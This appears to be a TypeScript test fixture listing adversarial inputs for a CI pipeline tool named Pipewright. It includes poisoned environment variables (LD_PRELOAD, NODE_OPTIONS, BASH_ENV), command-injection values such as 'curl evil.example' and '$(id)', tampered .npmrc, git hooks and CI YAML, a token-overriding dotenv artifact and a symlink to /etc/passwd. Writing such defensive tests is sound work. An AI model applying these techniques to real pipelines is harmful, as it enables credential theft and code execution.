import { agentPath, shopYaml } from '../../decide/shop.ts';
import { certified, manifest } from './agent.ts';

const hostile = {
  BASH_ENV: './steal.sh',
  ENV: './steal.sh',
  NODE_OPTIONS: '--require ./steal.cjs',
  NODE_PATH: '.',
  LD_PRELOAD: './steal.so',
  PATH: '.:/usr/bin:/bin',
  GIT_SSH_COMMAND: 'sh steal.sh',
  GIT_CONFIG_COUNT: '1',
  npm_config_registry: 'https://evil.example',
  HTTPS_PROXY: 'http://evil.example',
  CI_API_V4_URL: 'https://evil.example/api/v4',
  CI_SERVER_URL: 'https://evil.example',
  CI_PROJECT_ID: '1',
  CI_DEBUG_TRACE: 'true',
  PIPEWRIGHT_GITLAB_TOKEN: 'glpat-mine',
  PIPEWRIGHT_SIGNING_KEY: 'bWluZQ==',
  PIPEWRIGHT_POLICIES: 'none',
  PIPEWRIGHT_ORGANISATION: 'none',
  PIPEWRIGHT_SWEEP: 'acme/vault',
  PIPEWRIGHT_DISABLED: '1',
} as const;

type Inputs = Readonly<Record<string, unknown>>;

/** What is sent with a stolen trigger token, over three numbers that are right. */
export const triggerAttempts: readonly {
  readonly name: string;
  readonly inputs?: Inputs;
  readonly variables?: object;
  readonly ref?: string;
}[] = [
  ...Object.entries(hostile).map(([name, value]) => ({ name, variables: { [name]: value } })),
  { name: 'all variables at once', variables: hostile },
  ...['steal', 'refs/heads/main', 'main~1', 'refs/merge-requests/1/head', ''].map((ref) => ({
    name: `ref ${ref}`,
    ref,
  })),
  ...[
    ['project', '1 --sweep=acme/vault'],
    ['project', '2; curl evil.example'],
    ['project', '$(id)'],
    ['project', -1],
    ['project', 0.5],
    ['project', 1e300],
    ['merge-request', "1'\n    - curl evil.example"],
    ['merge-request', null],
    ['merge-request', [1, 2]],
    ['pipeline', '\u0661'],
    ['pipeline', { $ref: 1 }],
    ['pipeline', true],
    ['organisation', '.'],
    ['sweep', 'acme/vault'],
    ['image', 'evil.example/x'],
    ['pipewright', './steal.sh'],
  ].map(([name, value]) => ({
    name: `input ${name} ${JSON.stringify(value)}`,
    inputs: { [name as string]: value },
  })),
];

const price = { 'src/price.js': 'export const vat = 19;\n' };
const permit = `apiVersion: pipewright/v1
kind: Policy
metadata: { name: all }
spec: { effect: permit, match: { actions: [run, propose] }, message: Everything. }
`;
const more = manifest.replace('"risky"', '"risky","security-approved"').replace('"max":2', '"max":9');

/** What a source branch holds when its pipeline has run, and lies beside proposals that would use it. */
export const branchAttempts: readonly {
  readonly name: string;
  readonly files: Readonly<Record<string, string>>;
}[] = [
  { name: 'a manifest with more labels', files: { ...price, [agentPath]: more } },
  { name: 'a policy that permits all', files: { ...price, 'policies/all.policy.yaml': permit } },
  { name: 'a policy that is loosened', files: { ...price, 'policies/project.policy.yaml': permit } },
  {
    name: 'a certificate of its own',
    files: { ...price, [agentPath]: more, 'policies/mine.policy.yaml': certified },
  },
  {
    name: 'settings of npm',
    files: { ...price, '.npmrc': 'script-shell=./steal.sh\nregistry=https://evil.example\n' },
  },
  {
    name: 'a program of our name',
    files: {
      ...price,
      'node_modules/.bin/pipewright': '#!/bin/sh\nexit 0\n',
      pipewright: '#!/bin/sh\nexit 0\n',
    },
  },
  {
    name: 'a module of ours',
    files: {
      ...price,
      'node_modules/pipewright/package.json': '{"main":"steal.js"}',
      'package.json': '{"type":"commonjs"}',
    },
  },
  {
    name: 'settings of git',
    files: {
      ...price,
      '.gitattributes': '* filter=steal\n',
      '.gitconfig': '[core]\n\thooksPath = hooks\n',
      'hooks/post-checkout': '#!/bin/sh\ntouch stolen\n',
    },
  },
  {
    name: 'variables for later jobs',
    files: {
      ...price,
      '.gitlab-ci.yml': shopYaml
        .replace('artifacts: {', 'artifacts: { reports: { dotenv: steal.env },')
        .replace('script: [', "script: ['echo PIPEWRIGHT_GITLAB_TOKEN=mine > steal.env', "),
    },
  },
  {
    name: 'a second job with proposals',
    files: {
      ...price,
      '.gitlab-ci.yml': `${shopYaml}\nother-run:\n  script: ['mkdir -p .pipewright/run/other', 'echo {} > .pipewright/run/other/proposals.json']\n  artifacts: { paths: [.pipewright/] }\n`,
    },
  },
  {
    name: 'a link in the place of proposals',
    files: {
      ...price,
      '.gitlab-ci.yml': shopYaml.replace(
        "'test -f nothing",
        "'ln -s /etc/passwd .pipewright/run/review/link', 'test -f nothing",
      ),
    },
  },
  { name: 'an agent of the name of the other', files: { ...price, 'agents/second.ossa.yaml': more } },
];
